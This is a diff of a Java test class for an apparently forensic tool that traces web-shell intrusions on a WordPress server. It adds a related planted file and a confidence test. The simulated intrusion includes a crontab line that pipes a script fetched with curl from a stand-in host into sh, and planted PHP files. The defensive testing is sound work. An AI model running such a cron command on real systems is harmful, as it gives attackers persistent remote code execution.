@@ -86,6 +86,8 @@ class TracerTest {
         write("/var/www/shop/wp-content/themes/plain/cache.php", CODE);
         write("/var/spool/cron/crontabs/www-data", "MAILTO=\n*/5 * * * * curl -s http://192.0.2.9/a.sh | sh\n");
         written(SHELL, WRITTEN);
+        write("/var/www/shop/wp-admin/boot.php", "<?php boot();\n");
+        written("/var/www/shop/wp-admin/boot.php", WRITTEN.plusSeconds(40));
         gzip(
                 "/var/log/apache2/access.log.2.gz",
                 line("192.0.2.11", "2024-03-05T03:14:01Z", "POST /wp-login.php HTTP/1.1", 200)
@@ -140,7 +142,9 @@ class TracerTest {
                 .contains("a POST 1 s before the file was written", "that client was the first to call it");
         assertThat(trace.related())
                 .extracting(one -> one.entry().path() + " " + one.how())
-                .containsExactly("/var/www/shop/wp-content/themes/plain/cache.php has the same content");
+                .containsExactly(
+                        "/var/www/shop/wp-content/themes/plain/cache.php has the same content",
+                        "/var/www/shop/wp-admin/boot.php was changed by the same user 40 s after it");
         assertThat(trace.left())
                 .filteredOn(left -> left.severity() == Severity.HIGH)
                 .extracting(Leftover::subject)
@@ -261,7 +265,28 @@ class TracerTest {
         assertThat(all.get("cms")).extracting("name", "version").containsExactly("WordPress", "6.4.2");
     }
 
+    @Test
+    void howSureTheRunningRequestIsDependsOnWhatTheWorkerSays() throws IOException {
+        intrude();
+        Instant at = Instant.parse("2024-03-06T09:00:06Z");
+        Map<String, List<String>> worker = Map.of("REMOTE_ADDR", List.of("198.51.100.7"));
+        assertThat(ran(at, worker).ranConfidence()).isEqualTo("strong");
+        assertThat(ran(at, Map.of()).ranConfidence()).isEqualTo("probable");
+        assertThat(ran(at.plusSeconds(3_600), Map.of()).ranConfidence()).isEqualTo("weak");
+        assertThat(ran(at, worker).ran().orElseThrow().at()).isEqualTo("2024-03-06T09:00:05Z");
+    }
+
+    private Trace.Requests ran(Instant at, Map<String, List<String>> worker) {
+        return trace(new Question("process 812", Optional.empty(), SHELL, Optional.of(at), List.of(), worker))
+                .requests()
+                .orElseThrow();
+    }
+
     private Trace trace(String file) {
+        return trace(new Question(file, Optional.empty(), file, Optional.empty(), List.of(), Map.of()));
+    }
+
+    private Trace trace(Question question) {
         Path proc = Path.of("/proc");
         ForeignText texts = new ForeignText(root, new TreeFiles());
         WebServers servers = WebServers.read(texts);
@@ -275,8 +300,7 @@ class TracerTest {
                 () -> 0,
                 () -> false);
         AccessLogs logs = new AccessLogs(texts, 1L << 30, Duration.ofMinutes(1), () -> 0, () -> false);
-        return new Tracer(scene, servers, logs, what -> {})
-                .trace(new Question(file, Optional.empty(), file, Optional.empty(), List.of(), Map.of()));
+        return new Tracer(scene, servers, logs, what -> {}).trace(question);
     }
 
     private static String line(String client, String at, String request, int status) {
